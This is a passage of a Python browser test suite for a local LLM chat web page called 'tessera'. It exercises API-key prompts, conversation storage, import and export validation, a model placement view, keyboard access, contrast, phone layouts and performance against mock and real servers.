        check(t.until("document.querySelector('#model').innerText.includes('mock')") and not t.js("document.querySelector('#ask-key').open"),
              "the right key")
        check(t.until("document.querySelector('#notice').hidden"), "a notice is still there:", t.js("document.querySelector('#notice').innerText"))
        t.say("echo in")
        check(t.last() == "in", t.last())
        # another key from now on: the question is answered as soon as it is given
        mock.key = "other"
        t.write("echo second")
        t.key("Enter")
        check(t.until("document.querySelector('#ask-key').open"), "asks again")
        t.text("other")
        t.key("Enter")
        check(t.until("[...document.querySelectorAll('.assistant')].at(-1).innerText.includes('second')"), "answered after the key:", t.last())
        check(t.count(".message") == 4, "messages:", t.count(".message"))
        check(t.js("JSON.stringify(sessionStorage)").count("other") == 1 and "other" not in t.js("JSON.stringify(localStorage)"),
              "the key is in this tab's storage only")
        t.reload()
        t.say("echo third")
        check(t.last() == "third" and not t.js("document.querySelector('#ask-key').open"), "the key after a reload")
        check(not any("other" in json.dumps(r) for r in mock.requests[-1:]), "the key in a request's body")
        mock.key = "last"
        t.say("echo x", wait=False)
        check(t.until("document.querySelector('#ask-key').open"), "asks again")
        t.click("#key-cancel")
        check(t.until("!document.querySelector('#ask-key').open") and "API key" in t.note() and t.count(".retry") == 1, t.note())
    mock.key = None


def kept(browser, mock):
    """Conversations: kept, listed, renamed, exported, imported, removed."""
    with Tab(browser, mock) as t:
        t.say("echo first")
        t.key("n", ALT)
        t.say("echo second, a title that is so long that it would not fit into the list of conversations at all")
        titles = "[...document.querySelectorAll('#list a')].map((a) => a.textContent)"
        check(t.until(f"{titles}.join('|') === 'echo second, a title that is so long that it would not fit…|echo first'"), t.js(titles))
        t.reload()
        check(t.until("document.querySelectorAll('.message').length === 2") and t.last().startswith("second"), "after a reload:", t.last())
        t.click("#list li:last-child a")
        check(t.until("document.querySelector('.markdown')?.innerText === 'first'"), "the other one", t.last())
        check(t.until("document.querySelector('#list [aria-current]')?.textContent === 'echo first'"), "which one is shown")
        t.js("history.back()")
        check(t.until("document.querySelector('.markdown')?.innerText.startsWith('second')"), "back", t.last())
        t.js("history.forward()")
        check(t.until("document.querySelector('.markdown')?.innerText === 'first'"), "forward", t.last())

        t.click("#list .shown [data-does=rename]")
        check(t.focus() == "Title of the conversation", t.focus())
        t.text("<b>Ä new name")
        t.key("Escape")
        check(t.until("document.querySelector('#list .shown a')?.textContent === 'echo first'"), "Esc keeps the name", t.js(titles))
        t.click("#list .shown [data-does=rename]")
        t.text("<b>Ä new name")
        t.key("Enter")
        check(t.until("document.querySelector('#list .shown a')?.textContent === '<b>Ä new name' && document.title.startsWith('<b>Ä')"), t.js(titles))
        t.js("document.querySelector('#find').focus()")
        t.text("SECOND")
        check(t.until("document.querySelectorAll('#list li').length === 1"), "found:", t.js(titles))
        t.js("document.querySelector('#find').value = ''; document.querySelector('#find').dispatchEvent(new Event('input'))")

        # two answers at a time, each in its conversation
        mock.delay = 0.01
        t.say("echo " + "x" * 400, wait=False)
        t.until("document.querySelector('#list .busy')")
        t.click("#list li:last-child a")
        check(t.until("document.querySelector('.markdown')?.innerText.startsWith('second')"), "another one while an answer comes")
        t.say("echo quick")
        check(t.last() == "quick", t.last())
        t.until("!document.querySelector('#list .busy')")
        t.js("[...document.querySelectorAll('#list a')].find((a) => a.textContent.includes('Ä')).click()")
        check(t.until("[...document.querySelectorAll('.markdown')].at(-1)?.innerText === 'x'.repeat(400)"), "went on meanwhile:", t.last())
        mock.delay = 0.001

        # exported, and imported into a browser that has none
        t.js("window.saved = null; URL.createObjectURL = (b) => { b.text().then((x) => { window.saved = x; }); return '#'; };"
             "HTMLAnchorElement.prototype.click = function () { window.savedName = this.download; }")
        t.click("#export-all")
        check(t.until("saved") and re.fullmatch(r"tessera-chats-\d{4}-\d\d-\d\d\.json", t.js("savedName")), t.js("savedName"))
        text = t.js("saved")
        file = json.loads(text)
        check(len(file["conversations"]) == 2 and [len(c["messages"]) for c in file["conversations"]] == [4, 4], text[:500])
        t.js("saved = null")
        t.click("#list .shown [data-does=export]")
        check(t.until("saved") and len(json.loads(t.js("saved"))["conversations"]) == 1, "one exported")
        with Tab(browser, mock) as other:
            check(other.count("#list li") == 0, "another profile is empty")
            give_file(other, text)
            check(other.until("document.querySelectorAll('#list li').length === 2 && document.querySelectorAll('.message').length === 4"), "imported")
            other.js("window.saved = null; URL.createObjectURL = (b) => { b.text().then((x) => { window.saved = x; }); return '#'; };"
                     "HTMLAnchorElement.prototype.click = function () {}")
            other.click("#export-all")
            other.until("saved")
            strip = lambda f: sorted(json.dumps([{**c, "updated": 0}], sort_keys=True) for c in f["conversations"])  # noqa: E731
            drop = {"finish", "speeds", "reasoning_ms"}
            for f in (file, again := json.loads(other.js("saved"))):
                for c in f["conversations"]:
                    c["messages"] = [{k: v for k, v in m.items() if k not in drop} for m in c["messages"]]
            check(strip(file) == strip(again), "exported again:", strip(file), strip(again))
            m = {"n": 0, "parent": -1, "role": "user", "content": "x"}
            for bad, sentence in (("{", "isn’t JSON"), ("[]", "no conversations"), ('{"format": "tessera-chats"}', "no conversations"),
                                  (json.dumps({**file, "version": 2}), "version 2"),
                                  *((json.dumps({**file, "conversations": [c]}), s) for c, s in (
                                      (None, "has no messages"), ({"messages": {}}, "has no messages"),
                                      ({"messages": [None]}, "of nobody"), ({"messages": [{**m, "role": "system"}]}, "of nobody"),
                                      ({"messages": [{**m, "n": -1}]}, "numbered"), ({"messages": [{**m, "n": "1"}]}, "numbered"),
                                      ({"messages": [{**m, "n": 1e300}]}, "numbered"), ({"messages": [m, m]}, "numbered"),
                                      ({"messages": [{**m, "parent": 0}]}, "follows none"), ({"messages": [{**m, "parent": 5}]}, "follows none"),
                                      ({"messages": [{**m, "n": 5}, {**m, "parent": 5}]}, "follows none")))):
                other.js("document.querySelector('#notice').innerText = ''")
                give_file(other, bad)
                check(other.until(f"document.querySelector('#notice').innerText.includes({json.dumps(sentence)})", 5), bad[:200], "->",
                      other.js("document.querySelector('#notice').innerText"))
            check(other.count("#list li") == 2, "of a bad file nothing is taken")

        # removed, after a question
        t.click("#list .shown [data-does=delete]")
        check(t.js("document.querySelector('#confirm').open") and "4 messages" in t.js("document.querySelector('#confirm-what').innerText"), "asks first")
        t.key("Escape")
        check(t.until("!document.querySelector('#confirm').open") and t.count("#list li") == 2, "kept")
        t.click("#list .shown [data-does=delete]")
        t.click("#confirm .danger")
        check(t.until("document.querySelectorAll('#list li').length === 1 && !document.querySelector('.message')"), "removed", t.js(titles))
        t.reload()
        t.until("document.querySelectorAll('#list li').length")
        check(t.count("#list li") == 1, "removed for good", t.js(titles))
        check("xxxx" not in t.js("new Promise((ok) => { const r = indexedDB.open('tessera'); r.onsuccess = () => { const q = "
                              "r.result.transaction('messages').objectStore('messages').getAll(); q.onsuccess = () => ok(JSON.stringify(q.result)); }; })"),
              "nothing of it is left")

        # what is being typed survives a reload
        t.write("half a thou")
        t.reload()
        check(t.until("document.querySelector('#message').value === 'half a thou'"), "a draft")
        t.js("document.querySelector('#message').value = ''; document.querySelector('#message').dispatchEvent(new Event('input'))")

        # another tab of the same browser
        two = Page(browser, t.js("location.href.split('#')[0]"), context=t.context)
        two.until("document.querySelectorAll('#list li').length === 1")
        two.click("#list a")
        two.until("document.querySelectorAll('.message').length")
        t.click("#list a")
        t.until("document.querySelectorAll('.message').length")
        n = t.count(".message")
        t.say("echo from one tab")
        check(two.until(f"document.querySelectorAll('.message').length === {n + 2}"), "another tab shows it too")
        check(not two.errors, two.errors)
        two.close()


def memory_only(browser, mock):
    """A browser without IndexedDB: it works, and says that nothing is kept."""
    with Tab(browser, mock) as t:
        t.call("Page.addScriptToEvaluateOnNewDocument", source="Object.defineProperty(window, 'indexedDB', { get() { throw new Error('no'); } })")
        t.reload()
        check(t.until("document.querySelector('#notice')?.innerText.includes('keeps nothing')"), "says so")
        t.say("echo still works")
        check(t.last() == "still works" and t.count("#list li") == 1, t.last())


# ---- the plan ----

def plan_view(browser, mock):
    with Tab(browser, mock) as t:
        t.say("echo hi")
        t.key("p", ALT)
        check(t.until("document.querySelectorAll('.layers li').length === 33"), "layers:", t.count(".layers li"))
        check(t.count(".tensors tbody tr") == 258 and t.count(".device") == 3 and t.count(".legend button") == 4, "plan")
        check(t.js("[...document.querySelectorAll('.legend button strong')].map((b) => b.innerText)") ==
              ["CPU amx", "CPU lookup", "CUDA0 cuda", "CUDA1 cuda"], "legend")
        colours = t.js("[...document.querySelectorAll('.legend .swatch')].map((s) => getComputedStyle(s).backgroundColor)")
        check(len(set(colours)) == 4, "colours:", colours)
        check(t.js("[...document.querySelectorAll('.layers li:nth-child(2) .cell')].map((s) => getComputedStyle(s).backgroundColor)")
              == [colours[2]] * 5 + [colours[0]] * 3, "layer 0's colours")
        check(t.js("document.querySelector('.layers li:nth-child(2) button').getAttribute('aria-label')") ==
              "Layer 0: CUDA0 cuda 11.1 MiB, CPU amx 324 MiB", t.js("document.querySelector('.layers li:nth-child(2) button').getAttribute('aria-label')"))
        cell = t.js("(() => { const c = [...document.querySelectorAll('.layers li:nth-child(2) .cell')].map((x) => x.getBoundingClientRect().width);"
                    "return c[7] / c[0]; })()")
        check(15 < cell < 35, "widths are bytes:", cell)
        check("6.49 GiB" in t.js("document.querySelector('.device').innerText"), t.js("document.querySelector('.device').innerText"))
        shown = "[...document.querySelectorAll('.tensors tbody tr')].filter((r) => !r.hidden).length"
        t.js("document.querySelector('#plan-find').focus()")
        t.text("exps CUDA1")
        check(t.js(shown) == 12, "filtered:", t.js(shown))
        check("12 tensors of 258, 1.27 GiB" in t.js("document.querySelector('.tensors p').innerText"), t.js("document.querySelector('.tensors p').innerText"))
        t.click(".legend button:nth-child(1)")
        check(t.js(shown) == 0 and t.js("document.querySelector('.legend button').getAttribute('aria-pressed')") == "true", "of the CPU")
        t.click(".legend button:nth-child(1)")
        t.click(".layers li:nth-child(5) button")
        check(t.js(shown) == 8 and t.js("document.querySelector('#plan-find').value") == "blk.3.", "a layer's tensors:", t.js(shown))
        t.key("Escape")
        check(t.until("!document.querySelector('#chat-view').hidden") and t.count(".message") == 2, "Esc: back to the conversation")
        mock.has_plan = False
        t.expected = ("404",)
        t.key("p", ALT)
        check(t.until("document.querySelector('#plan .wrong')?.innerText.includes('There is no /plan here.')"), "no plan is said")
        mock.has_plan = True
        t.click("#plan .retry")
        check(t.until("document.querySelectorAll('.layers li').length === 33"), "again")
        t.reload()
        check(t.until("document.querySelectorAll('.layers li').length === 33"), "the plan after a reload")


# ---- keyboard, widths, colours ----

def keyboard(browser, mock):
    """All of it without a mouse."""
    with Tab(browser, mock) as t:
        t.until("document.querySelector('#model').innerText")
        t.js("document.querySelector('#skip').focus()")
        order = []
        for _ in range(14):
            if order:
                t.key("Tab")
            order.append(t.focus())
            ring = t.js("(() => { const s = getComputedStyle(document.activeElement); return [s.outlineStyle, parseFloat(s.outlineWidth)]; })()")
            check(ring[0] != "none" and ring[1] >= 2, "no visible focus on", order[-1])
            check(t.js("(() => { const r = document.activeElement.getBoundingClientRect(); return r.width > 0 && r.bottom > 0 && r.top < innerHeight; })()"),
                  "the focus is out of sight on", order[-1])
            if order[-1] == "send":
                break
        check(order == ["skip", "new-chat", "find", "export-all", "import", "menu", "open-plan", "open-settings", "open-keys", "log", "message",
                        "send"], "order of the focus:", order)
        t.js("document.querySelector('#skip').focus()")
        t.key("Enter")
        check(t.focus() == "message", "the skip link leads to the message, not", t.focus())
        t.text("echo by keys")
        t.key("Enter")
        t.idle()
        t.key("r", ALT)
        check(t.until("document.querySelector('.assistant .versions')"), "Alt+R answers again")
        t.idle()
        t.key("u", ALT)
        check(t.focus() == "Edit your message", "Alt+U edits", t.focus())
        t.key("Escape")
        t.key("i", ALT)
        check(t.focus() == "message", "Alt+I", t.focus())
        t.key("ArrowUp")
        check(t.focus() == "Edit your message", "ArrowUp edits", t.focus())
        t.key("Escape")
        t.key("k", ALT)
        check(t.js("document.querySelector('#keys').open"), "Alt+K lists the shortcuts")
        listed = t.js("[...document.querySelectorAll('#keys-list dt')].map((d) => d.innerText)")
        source = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "server", "page", "app.js"), encoding="utf-8").read()
        known = re.findall(r"\bKey([A-Z]):", source)
        check({f"Alt+{k}" for k in known} == {k for k in listed if k.startswith("Alt+")} and len(known) >= 9, "listed:", listed, known)
        shot(t, "shortcuts")
        t.key("Escape")
        check(not t.js("document.querySelector('#keys').open"), "Esc closes")
        t.key("l", ALT)
        check(t.js("getComputedStyle(document.querySelector('#side')).display") == "none", "Alt+L hides the list")
        t.key("l", ALT)
        check(t.js("getComputedStyle(document.querySelector('#side')).display") != "none", "Alt+L shows the list")
        t.key("n", ALT)
        t.until("!document.querySelector('.message')")
        check(wait_for(lambda: t.focus() == "message"), "a new chat takes the message's focus", t.focus())
        # into the list, rename and remove from there
        t.js("document.querySelector('#find').focus()")
        t.key("Tab")
        t.key("Enter")
        check(t.until("document.querySelectorAll('.message').length === 2"), "a conversation by Enter")
        check(t.until("document.activeElement.id === 'message'"), "the message has the focus after that")
        t.js("document.querySelector('#list a').focus()")
        t.key("Tab")
        t.key("Enter")
        t.text("by keys")
        t.key("Enter")
        check(t.until("document.querySelector('#list a')?.textContent === 'by keys'") and wait_for(lambda: t.focus() == "Rename"), "renamed", t.focus())
        t.key("Tab")
        t.key("Tab")
        t.key(" ")
        check(t.until("document.querySelector('#confirm').open") and t.focus() == "Keep it", "the question's focus is on", t.focus())
        t.key("Tab")
        t.key("Enter")
        check(t.until("document.querySelectorAll('#list li').length === 0"), "removed by keys")
        # every control has a name, every live region its manners
        nameless = t.js("[...document.querySelectorAll('button, input, textarea, a, summary')].filter((e) => !(e.getAttribute('aria-label') ||"
                        "e.innerText?.trim() || e.textContent.trim() || e.labels?.length || e.type === 'file')).map((e) => e.outerHTML)")
        check(not nameless, "no name:", nameless)
        check(t.js("document.querySelector('#heard').getAttribute('aria-live')") == "polite", "polite")
        check(t.js("document.querySelector('html').lang") == "en" and t.count("main") == 1 and t.count("h1") == 1, "landmarks")
        inline = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "server", "page", "index.html"), encoding="utf-8").read()
        check(not re.search(r"\son\w+=|style=|<style|https?://(?!www\.w3\.org/2000/svg)|javascript:", inline), "inline or external things in index.html")


# The least contrast of text on what it stands on, and on which.
CONTRAST = """(() => {
    const canvas = new OffscreenCanvas(1, 1).getContext('2d', { willReadFrequently: true });
    const rgba = (c) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = c; canvas.fillRect(0, 0, 1, 1);
        const d = canvas.getImageData(0, 0, 1, 1).data; return [d[0], d[1], d[2], d[3] / 255]; };
    const over = (a, b) => [0, 1, 2].map((i) => a[i] * a[3] + b[i] * (1 - a[3])).concat(1);
    const light = (c) => { const f = c.slice(0, 3).map((v) => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; });
        return 0.2126 * f[0] + 0.7152 * f[1] + 0.0722 * f[2]; };
    const ground = (e) => { const chain = []; for (; e; e = e.parentElement) chain.unshift(rgba(getComputedStyle(e).backgroundColor));
        return chain.reduce((under, c) => over(c, under), rgba(getComputedStyle(document.documentElement).colorScheme.includes('dark') &&
            matchMedia('(prefers-color-scheme: dark)').matches ? '#000' : '#fff')); };
    const ratio = (a, b) => (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const out = [];
    let n = 0;
    const top = document.querySelector('dialog[open]') || document.body;
    for (const e of top.querySelectorAll('*')) {
        const own = [...e.childNodes].some((c) => c.nodeType === 3 && c.data.trim()) || e.value || e.placeholder;
        if (!own || !e.checkVisibility({ visibilityProperty: true }) || e.disabled || e.closest('.sr, .skip, option')) continue;
        const style = getComputedStyle(e, !e.value && e.placeholder ? '::placeholder' : null);
        const back = ground(e);
        const r = ratio(light(over(rgba(style.color), back)), light(back));
        n++;
        if (r < 4.5) out.push(`${e.localName}#${e.id}.${e.className} ${(e.textContent || '').slice(0, 20)} ${style.color} ${r.toFixed(2)}`);
    }
    // the ring of the focus, icons, and the borders of fields: 3
    const ring = light(rgba(getComputedStyle(document.documentElement).getPropertyValue('--accent')));
    for (const e of document.querySelectorAll('main, aside'))
        if (ratio(ring, light(ground(e))) < 3) out.push('focus ring');
    for (const e of top.querySelectorAll('input, textarea, select')) {
        if (!e.checkVisibility()) continue;
        const r = ratio(light(over(rgba(getComputedStyle(e).borderTopColor), ground(e.parentElement))), light(ground(e.parentElement)));
        if (r < 3) out.push(`border of ${e.id} ${r.toFixed(2)}`);
    }
    for (const e of top.querySelectorAll('.cell, .swatch')) {
        const r = ratio(light(rgba(getComputedStyle(e).backgroundColor)), light(ground(e.parentElement)));
        if (r < 3) out.push(`colour ${e.parentElement.textContent.slice(0, 20)} ${r.toFixed(2)}`);
    }
    return { n, out: [...new Set(out)].slice(0, 12) };
})()"""

# What is wider than its box or the window, and what is smaller than a finger.
NARROW = """(() => {
    const out = [];
    const show = (e) => `${e.localName}#${e.id}.${e.className} ${(e.getAttribute('aria-label') || e.textContent || '').slice(0, 20)}`;
    if (document.documentElement.scrollWidth > document.documentElement.clientWidth) out.push('the page is wider than the window');
    for (const e of [document.documentElement, document.body, document.querySelector('main')])
        if (e.scrollLeft || e.scrollTop || e.scrollHeight > e.clientHeight) out.push(`${e.localName} scrolls: ${e.scrollTop} ${e.scrollHeight} > ${e.clientHeight}`);
    const top = document.querySelector('dialog[open]') || document.body;
    for (const e of [document.body, ...top.querySelectorAll('*')]) {
        if (!e.checkVisibility({ visibilityProperty: true }) || e.closest('.sr, svg, .skip, main[inert]') || (e.closest('.table') && !e.matches('.table'))) continue;
        const style = getComputedStyle(e);
        const clips = style.textOverflow === 'ellipsis' || e.matches('.table, input');
        if (e.scrollWidth > e.clientWidth + 1 && style.display !== 'inline' && !clips) out.push(`wider than its box: ${show(e)} ${e.scrollWidth} > ${e.clientWidth}`);
        const r = e.getBoundingClientRect();
        if (r.width && (r.right > innerWidth + 0.5 || r.left < -0.5) && !e.closest('aside:not(.side-open aside)')) out.push(`out of the window: ${show(e)}`);
        if (e.matches('button, input, textarea, select, summary, nav a, [role=button]') && (r.width < 43.9 || r.height < 43.9))
            out.push(`small: ${show(e)} ${r.width.toFixed(0)} x ${r.height.toFixed(0)}`);
    }
    return [...new Set(out)].slice(0, 12);
})()"""

LONG_WORDS = ("w" * 300 + "\n\n`" + "c" * 200 + "`\n\n| " + " | ".join(["a long head"] * 12) + " |\n|" + "---|" * 12 + "\n| " +
              " | ".join(["cell" * 5] * 12) + " |\n\nhttps://example.org/" + "u" * 200 + "\n\n" + "> " * 10 + "deep\n\n" + "- " * 9 + "deep")


def views(t):
    """Goes through all views; yields the name of each."""
    yield "empty"
    t.say("markdown")
    t.mock.next.append(content(LONG_WORDS, 50))
    t.say("words " + "x" * 200)
    t.mock.next.append([{"reasoning_content": "y" * 200}, {"content": "short"},
                        {"tool_calls": [{"index": 0, "id": "1", "function": {"name": "n" * 100, "arguments": '{"a": "%s"}' % ("z" * 200)}}]}])
    t.say("think")
    t.js("document.querySelector('.thoughts').open = true")
    t.expected += ("429",)
    t.say("busy")
    t.key("r", ALT)
    t.idle()
    yield "chat"
    t.js("document.querySelector('#log').scrollTop = 0")
    time.sleep(0.2)
    yield "chat-top"
    t.key("u", ALT)
    yield "editing"
    t.key("Escape")
    t.key("s", ALT)
    t.js("document.querySelector('#tools-part').open = true; document.querySelector('#tools').value = '['; "
         "document.querySelector('#tools').dispatchEvent(new Event('input')); document.querySelector('#s-top_p').value = 7;"
         "document.querySelector('#s-top_p').dispatchEvent(new Event('input'))")
    yield "settings"
    t.click("#settings-reset")
    t.key("Escape")
    t.key("k", ALT)
    yield "keys"
    t.key("Escape")
    t.js("(document.querySelector('#list .shown [data-does=delete]')).click()")
    yield "confirm"
    t.key("Escape")
    t.js("document.querySelector('#ask-key').showModal()")
    yield "key"
    t.key("Escape")
    t.key("p", ALT)
    t.until("document.querySelectorAll('.layers li').length")
    yield "plan"
    t.js("document.querySelector('.way-part').open = true; document.querySelector('.legend button').click(); document.querySelector('.tensors').scrollIntoView()")
    yield "plan-table"
    t.key("Escape")


def phone(browser, mock):
    for scheme in ("light", "dark"):
        with Tab(browser, mock, width=360, height=740) as t:
            t.size(360, 740, phone=True)
            t.media(prefers_color_scheme=scheme)
            t.reload()
            t.until("document.querySelector('#model').innerText")
            check(t.js("matchMedia('(pointer: coarse)').matches && innerWidth === 360"), "a phone")
            # Enter is a new line there; the button sends
            t.write("echo a")
            t.key("Enter")
            t.text("b")
            t.click("#send")
            t.idle()
            check(t.last() == "a\nb", "sent by the button:", t.last())
            t.click("#menu")
            time.sleep(0.4)
            check(t.js("document.querySelector('#main').inert") and t.focus() == "side-close", "the drawer is open", t.focus())
            check(not (wrong := t.js(NARROW)), "drawer on a phone:", wrong)
            check(not (wrong := t.js(CONTRAST)["out"]), "contrast in the drawer:", wrong)
            shot(t, f"phone-{scheme}-drawer")
            t.key("Escape")
            check(not t.js("document.querySelector('#main').inert") and t.focus() == "menu", "Esc closes the drawer", t.focus())
            time.sleep(0.4)
            t.click("#menu")
            time.sleep(0.4)
            t.click("#new-chat")
            check(t.until("!document.querySelector('.message') && !document.querySelector('#main').inert"), "a new chat closes the drawer")
            time.sleep(0.3)
            say, t.say = t.say, lambda text, wait=True: by_button(t, text)
            for name in views(t):
                time.sleep(0.1)
                wrong = t.js(NARROW)
                check(not wrong, f"{name} on a phone, {scheme}:", wrong)
                shot(t, f"phone-{scheme}-{name}")
            t.say = say


def by_button(t, text):
    t.write(text)
    t.click("#send")
    t.idle(text)


def colours(browser, mock):
    for scheme in ("light", "dark"):
        with Tab(browser, mock) as t:
            t.media(prefers_color_scheme=scheme)
            t.until("document.querySelector('#model').innerText")
            dark = t.js("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)[0] < 60")
            check(dark == (scheme == "dark"), "the theme follows the system:", scheme)
            for name in views(t):
                time.sleep(0.1)
                got = t.js(CONTRAST)
                check(got["n"] > 3 and not got["out"], f"contrast, {name}, {scheme}:", got)
                check(t.js("document.documentElement.scrollWidth <= innerWidth"), f"{name} is too wide")
                shot(t, f"wide-{scheme}-{name}")
            t.media(prefers_color_scheme=scheme, prefers_reduced_motion="reduce")
            mock.delay = 0.05
            mock.next.append([{"content": ""}] * 30)
            t.say("x", wait=False)
            check(t.until("document.querySelector('.waiting')") and
                  t.js("getComputedStyle(document.querySelector('.waiting')).animationName") == "none", "reduced motion")
            t.key("Escape")
            t.idle()
            mock.delay = 0.001


def large(browser, mock):
    """10,000 lines: opened soon, and more text comes in without the page standing still."""
    with Tab(browser, mock) as t:
        mock.delay = 0
        for _ in range(4):
            t.say("long 2500")
        lines = t.js("[...document.querySelectorAll('.markdown')].reduce((n, e) => n + e.textContent.split('Line').length, 0)")
        check(lines > 6000, "lines:", lines)
        t.reload()
        t.until("document.querySelectorAll('.message').length === 8", 30)
        opened = t.js("(() => { const m = document.querySelector('#messages'); return performance.now(); })()")
        check(opened < 8000, "opened after", opened, "ms")
        check(t.until("(() => { const l = document.querySelector('#log'); return l.scrollHeight - l.clientHeight - l.scrollTop < 3; })()"),
              "it is shown from its end")
        t.until("document.querySelector('#model').innerText")
        # frames while an answer comes in: none longer than a fifth of a second, and old blocks aren't touched
        mock.delay = 0.002
        t.js("window.touched = 0; window.slowest = 0; window.frames_ = 0; (() => { let last = performance.now(); const f = (now) => {"
             "slowest = Math.max(slowest, now - last); frames_++; last = now; if (!window.over) requestAnimationFrame(f); }; requestAnimationFrame(f); })();"
             "new MutationObserver((l) => { for (const r of l) { const a = r.target.parentElement?.closest('.message');"
             "if (a && a !== document.querySelector('#messages').lastElementChild) touched++; } })"
             ".observe(document.querySelector('#messages'), { childList: true, characterData: true, subtree: true })")
        mock.next.append(content("\n\n".join(f"Paragraph {i} with *text*." for i in range(300)) + "\n\n```\n" + "code\n" * 300, 12))
        t.say("more")
        t.js("window.over = true")
        slowest, touched, frames = t.js("[slowest, touched, frames_]")
        check(touched == 0, "old messages were touched", touched, "times")
        check(frames > 20 and slowest < 1000, "the slowest frame took", slowest, "ms of", frames)
        print(f"page: 10,000 lines opened after {opened:.0f} ms; {frames} frames while streaming, the slowest {slowest:.0f} ms")
        # who scrolls up isn't pulled down
        mock.next.append(content("x\n\n" * 400, 4))
        t.say("more", wait=False)
        t.until("document.querySelector('[aria-busy=true] .markdown p')")
        t.js("document.querySelector('#log').scrollTop -= 2000")
        time.sleep(0.1)
        at = t.js("document.querySelector('#log').scrollTop")
        time.sleep(0.4)
        check(abs(t.js("document.querySelector('#log').scrollTop") - at) < 200 and not t.js("document.querySelector('#to-end').hidden"),
              "scrolled away by", t.js("document.querySelector('#log').scrollTop") - at)
        t.click("#to-end")
        check(t.until("document.querySelector('#to-end').hidden"), "to the end")
        t.key("Escape")
        t.idle()
        mock.delay = 0.001


# ---- the real server ----

class Serve:
    """tessera serve with a small model of random weights, on a free port."""

    def __init__(self, model, *args):
        self.p = subprocess.Popen([TESSERA, "serve", "-m", model, "--port", "0", *args], stderr=subprocess.PIPE,
                                  stdout=subprocess.DEVNULL, env=ENV)
        self.url, said = None, []
        for line in self.p.stderr:
            said.append(line.decode("utf-8", "replace"))
            if m := re.match(r"listening at (http://\S+)", said[-1]):
                self.url = m.group(1) + "/"
                break
        if not self.url:
            raise SystemExit(f"tessera serve doesn't listen: {said}")
        threading.Thread(target=self.p.stderr.read, daemon=True).start()
        self.requests = []  # as the mock has, not filled

    def close(self):
        self.p.terminate()
        check(self.p.wait(30) == 0, "tessera serve ends with", self.p.returncode)


def real(browser, _):
    if run("serve", "--help").rc:
        print("page: this tessera has no serve: only the mock was talked to")
        return
    with Folder() as folder:
        server = Serve(folder.model("tiny.gguf"), "--chat-template", "chatml", "--api-key", "sesame", "-c", "1024", "-np", "2")
        try:
            with Tab(browser, server, expected=("401", "400", "ERR_CONNECTION_REFUSED")) as t:
                check(t.until("document.querySelector('#ask-key').open"), "the real server wants its key")
                t.text("sesame")
                t.key("Enter")
                check(t.until("/context [\\d,]+$/.test(document.querySelector('#model').innerText)"), "its model:",
                      t.js("document.querySelector('#model').innerText"))
                t.key("s", ALT)
                check(t.js("document.querySelector('#s-temperature').placeholder") == "0.8", "its defaults")
                for name, value in (("s-max_tokens", "24"), ("s-temperature", "0"), ("s-seed", "3")):
                    t.js(f"document.querySelector('#{name}').focus()")
                    t.text(value)
                t.key("Escape")

                def ask(text):
                    t.write(text)
                    t.key("Enter")
                    t.idle(text)

                ask("Hello")
                check("limit of tokens" in t.note() and t.js("document.querySelector('.assistant').textContent.length") > 0, t.note())
                stats = t.js("document.querySelector('.stats').textContent")
                check(re.fullmatch(r"answer 24 tokens, [\d,.]+ tok/s · prompt \d+ tokens.*, [\d,.]+ tok/s · context \d+ of [\d,]+", stats), stats)
                first = t.last()
                t.key("r", ALT)
                t.until("document.querySelector('.versions')")
                t.idle()
                check(t.last() == first, "the same again at temperature 0:", t.last(), first)
                t.key("s", ALT)
                t.js("document.querySelector('#s-max_tokens').select()")
                t.text("900")
                t.key("Escape")
                t.write("Go on")
                t.key("Enter")
                t.until(f"document.querySelector('[aria-busy=true] .stats')?.textContent || {IDLE}")  # it may be over already
                t.key("Escape")
                t.idle()
                check(t.note() in ("Stopped.", "The answer reached the limit of tokens."), t.note())
                ask("word " * 3000)
                check("doesn’t fit the model’s context" in t.note() and t.count(".retry") == 1, t.note())
                t.key("p", ALT)
                check(t.until("document.querySelectorAll('.layers li').length > 1 && document.querySelector('.device')"), "its plan")
                shot(t, "real-plan")
                t.key("Escape")
                server.p.terminate()
                server.p.wait(30)
                n = t.count(".message")
                ask("Still there?")
                check("can’t be reached" in t.note() and t.count(".message") == n + 2, t.note())
        finally:
            server.close()


def main():
    if not chromium():
        print("there is no Chromium here (package chromium): the page isn't tested")
        sys.exit(77)
    only = sys.argv[1:] or os.environ.get("TS_PAGE_TESTS", "").split()
    mock, browser = Mock(), Browser()
    try:
        for test in (markdown, hostile, answers, kinds, failures, keys, kept, memory_only, plan_view, keyboard, phone, colours, large,
                     real):
            if only and test.__name__ not in only:
                continue
            began = time.time()
            mock.next.clear()
            test(browser, mock)
            print(f"page: {test.__name__} {time.time() - began:.1f} s")
    finally:
        browser.close()
        mock.close()
    done("page")


if __name__ == "__main__":
    main()
